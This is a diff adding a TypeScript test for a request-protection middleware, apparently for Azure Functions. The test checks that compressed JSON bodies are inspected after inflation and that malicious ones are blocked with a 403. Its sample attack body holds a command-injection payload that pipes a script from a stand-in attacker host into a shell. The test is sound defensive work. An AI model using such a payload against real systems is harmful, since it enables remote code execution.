@@ -684,3 +684,30 @@ t.test('types: protect() fits app.http and app.storageQueue without annotations'
   }
   t.pass();
 });
+
+t.test('HTTP: a compressed body is inspected inflated and reaches the handler as sent', async (t) => {
+  const { gzipSync, deflateSync, gunzipSync } = await import('node:zlib');
+  const { lines, log } = logs();
+  let got: Uint8Array | undefined;
+  const handler = protect(async (request: HttpRequest) => {
+    got = new Uint8Array(await request.arrayBuffer());
+    return { status: 200 };
+  }, { log });
+  const attack = Buffer.from(JSON.stringify({ note: '; curl http://attacker.example/x | sh' }));
+  for (const [coding, bytes] of [['gzip', gzipSync(attack)], ['deflate', deflateSync(attack)]] as const) {
+    const req = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json', 'content-encoding': coding }, body: { bytes } });
+    const res = (await handler(req, httpContext())) as HttpResponseInit;
+    t.equal(res.status, 403, coding);
+    t.equal(lines.at(-1)?.where, 'body.note');
+  }
+  t.equal(got, undefined, 'the handler never ran');
+  const order = Buffer.from(JSON.stringify({ sku: 'TSHIRT-42', qty: 2 }));
+  const gz = gzipSync(order);
+  const ok = (await handler(
+    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: { bytes: gz } }),
+    httpContext(),
+  )) as HttpResponseInit;
+  t.equal(ok.status, 200);
+  t.same(Buffer.from(got!), gz, 'the handler reads the bytes as sent');
+  t.same(gunzipSync(got!), order);
+});
